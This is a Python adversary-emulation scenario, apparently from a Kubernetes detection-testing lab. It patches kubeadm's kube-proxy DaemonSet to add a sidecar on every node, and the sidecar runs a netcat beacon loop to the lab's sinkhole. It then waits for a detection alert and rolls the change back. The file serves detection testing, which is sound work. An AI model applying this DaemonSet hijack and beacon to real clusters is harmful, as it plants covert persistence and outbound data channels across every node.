"""Hijack a sanctioned add-on: a sidecar patched into kubeadm's kube-proxy DaemonSet runs on every node."""

from __future__ import annotations

import json
import secrets

from lab import Lab, Workload
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._own_cluster import require_own_cluster

SIDECAR = "metrics"


class KubeProxySidecar(Scenario):
    id = "kubernetes.tamper.kube-proxy-sidecar"
    title = "Sidecar patched into the kube-proxy DaemonSet runs on every node's network, under its sanction"
    kind = Kind.ADVERSARY
    techniques = ("T1543.005", "T1610")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.system-workload-changed",), within_s=20)
    twin = "kubernetes.deploy.kube-proxy-restart"
    tags = ("kubernetes", "persistence", "defense-evasion")
    parallel_safe = False  # the cluster's own kube-proxy is rolled out twice on every node
    description = (
        "Thinking as someone who read the kube-system add-ons sanction (their pods are those the "
        "DaemonSet controller creates in kube-system, whatever the template runs): with an admin's "
        "credentials, patches kubeadm's kube-proxy DaemonSet to add a sidecar container that sends a "
        "token to the lab internet's sinkhole every two seconds. The DaemonSet controller replaces "
        "kube-proxy's pod on every node with one that runs the sidecar on the node's network, and those "
        "pods are sanctioned by who created them. The scenario waits until the sinkhole hears the "
        "token, then rolls the DaemonSet back (kubectl rollout undo), as an intruder tidying up would."
    )

    def detonate(self, lab: Lab) -> None:
        node = lab.kubectl("get", "nodes", "-o", "jsonpath={.items[0].metadata.name}").output.strip()
        require_own_cluster(lab, node)
        marker = secrets.token_hex(6)
        beacon = f"while true; do echo {marker} | nc -w 2 -q 1 {lab.sinkhole.address} 4444; sleep 2; done"
        before = json.loads(lab.kubectl("get", "daemonset", "-n", "kube-system", "kube-proxy", "-o", "json").output)
        revision = before["metadata"].get("generation", 0)
        # Not the scenario's object, but the one it tampers with: alerts on it are this scenario's. Tracked
        # only for attribution; the lab deletes what it created, never this.
        lab.track(Workload(id=before["metadata"]["uid"], name="kube-proxy", kind="daemonset", backend="kubernetes",
                           namespace="kube-system"))

        def undo() -> None:
            current = json.loads(lab.kubectl("get", "daemonset", "-n", "kube-system", "kube-proxy", "-o",
                                             "json").output)
            containers = current["spec"]["template"]["spec"]["containers"]
            if any(c["name"] == SIDECAR for c in containers):
                lab.kubectl("rollout", "undo", "daemonset/kube-proxy", "-n", "kube-system")
            lab.kubectl("rollout", "status", "daemonset/kube-proxy", "-n", "kube-system", "--timeout=120s",
                        timeout=150)

        lab.cleanup("roll kube-proxy's DaemonSet back to what kubeadm installed", undo)
        lab.action("patch a sidecar into the kube-proxy DaemonSet")
        patch = {"spec": {"template": {"spec": {"containers": [
            {"name": SIDECAR, "image": lab.image, "imagePullPolicy": "IfNotPresent", "command": ["sh", "-c", beacon]},
        ]}}}}
        lab.kubectl("patch", "daemonset", "kube-proxy", "-n", "kube-system", "--type", "strategic", "-p",
                    json.dumps(patch))
        lab.wait_for(lambda: any(marker in r.get("head", "") for r in lab.sinkhole_records()), timeout=90,
                     what="the sidecar's beacon to reach the sinkhole")
        after = json.loads(lab.kubectl("get", "daemonset", "-n", "kube-system", "kube-proxy", "-o", "json").output)
        if after["metadata"].get("generation", 0) <= revision:
            raise AssertionError("the kube-proxy DaemonSet was not changed")
        lab.action("roll the DaemonSet back")
        undo()
